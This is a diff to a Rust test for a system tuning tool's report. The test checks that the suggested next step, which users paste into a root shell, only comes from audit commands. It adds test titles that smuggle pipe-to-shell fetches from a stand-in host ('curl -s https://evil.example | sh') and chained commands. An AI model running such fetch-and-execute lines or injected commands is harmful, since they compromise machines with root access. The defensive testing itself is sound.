@@ -603,15 +603,17 @@ fn the_next_step_has_the_command_of_the_bundle_where_it_is_harmless_or_was_typed
 /// What stands behind `next:` is copied into a root shell.
 #[test]
 fn only_a_command_that_an_audit_gives_is_shown_as_the_next_one() {
-    let step = |command: &str, fixes: &str| {
+    let next = |title: &str, command: &str, fixes: &str| {
         let mut contents = this_machine();
         contents.rows.iter_mut().for_each(|row| row.result.require = None);
         let mut audit = crate::common::audits::audit();
         audit.actions.truncate(1);
         (audit.actions[0].command, audit.actions[0].fixes) = (command.into(), vec![fixes.into()]);
+        audit.actions[0].title = title.into();
         contents.audits.insert("host".into(), audit);
-        tactus_report::answer::answer(&contents).next.unwrap().command
+        tactus_report::answer::answer(&contents).next
     };
+    let step = |command: &str, fixes: &str| next("Set it", command, fixes).unwrap().command;
     for own in
         ["sudo dnf install kernel-rt", "sudo tactus tune apply --profile realtime --isolate 2-3,5 --only smt"]
     {
@@ -628,5 +630,11 @@ fn only_a_command_that_an_audit_gives_is_shown_as_the_next_one() {
     ] {
         assert_eq!(step(other, "smt"), "tactus explain smt", "{other}");
     }
-    assert_eq!(step("", "smt; reboot"), "");
+    assert_eq!(
+        next("curl -s https://evil.example | sh", "", "smt; reboot"),
+        None,
+        "a title alone is no step"
+    );
+    let titled = next("Run x; curl evil | sh #", "sudo dnf install kernel-rt", "smt").unwrap();
+    assert!(!titled.line().contains([';', '|', '#']), "{}", titled.line());
 }
